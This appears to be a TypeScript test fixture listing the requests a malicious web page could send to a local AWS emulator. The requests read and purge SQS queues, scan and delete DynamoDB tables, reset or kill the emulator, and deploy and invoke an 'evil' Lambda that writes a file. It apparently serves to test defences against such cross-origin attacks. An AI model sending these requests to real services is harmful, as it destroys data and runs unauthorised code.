import type { Attack } from './foreign-page.js';

/** index.py: def handler(event, context): open(event['path'], 'w').close() */
const CODE =
  'UEsDBBQAAAAAAAAAISiWWOy6QgAAAEIAAAAIAAAAaW5kZXgucHlkZWYgaGFuZGxlcihldmVudCwgY29udGV4dCk6CiAgICBvcGVuKGV2ZW50WydwYXRoJ10s' +
  'ICd3JykuY2xvc2UoKQpQSwECFAMUAAAAAAAAACEolljsukIAAABCAAAACAAAAAAAAAAAAAAAgAEAAAAAaW5kZXgucHlQSwUGAAAAAAEAAQA2AAAAaAAAAAAA';

const JSON_TYPE = 'application/x-amz-json-1.0';

/**
 * What a malicious page would do with an emulator: read, empty and delete queues and tables, reset or end it, and run
 * code that creates a file.
 */
export function emulatorAttack({ queueUrl, table, file }: { queueUrl: string; table: string; file: string }): Attack {
  const query = (action: string, more: Record<string, string> = {}) =>
    new URLSearchParams({ Action: action, QueueUrl: queueUrl, Version: '2012-11-05', ...more }).toString();
  const call = (target: string, body: object) => ({
    path: '/',
    body: JSON.stringify(body),
    type: JSON_TYPE,
    headers: { 'x-amz-target': target },
  });
  const post = (path: string, body: string, type = 'text/plain') => ({ path, body, type });
  const code = { FunctionName: 'evil', Runtime: 'python3.12', Role: 'arn:aws:iam::000000000000:role/r' };
  const form = 'application/x-www-form-urlencoded';
  return {
    reads: [
      `/?${query('ReceiveMessage')}`,
      `/?${query('PurgeQueue')}`,
      `/?${query('DeleteQueue')}`,
      '/_localstack/health',
      '/_localstack/diagnose',
      '/_ministack/health',
      '/2015-03-31/functions/',
    ],
    writes: [
      post('/', query('SendMessage', { MessageBody: 'evil' }), form),
      post('/', query('PurgeQueue'), form),
      call('AmazonSQS.PurgeQueue', { QueueUrl: queueUrl }),
      call('DynamoDB_20120810.Scan', { TableName: table }),
      call('DynamoDB_20120810.DeleteTable', { TableName: table }),
      post('/2015-03-31/functions', JSON.stringify({ ...code, Handler: 'index.handler', Code: { ZipFile: CODE } })),
      post('/2015-03-31/functions/evil/invocations', JSON.stringify({ path: file })),
      post('/_ministack/reset', ''),
      post('/_localstack/state/reset', ''),
      post('/_localstack/health', '{"action":"kill"}'),
      { path: '/2015-03-31/functions/evil', method: 'DELETE', body: '', type: 'text/plain' },
    ],
  };
}
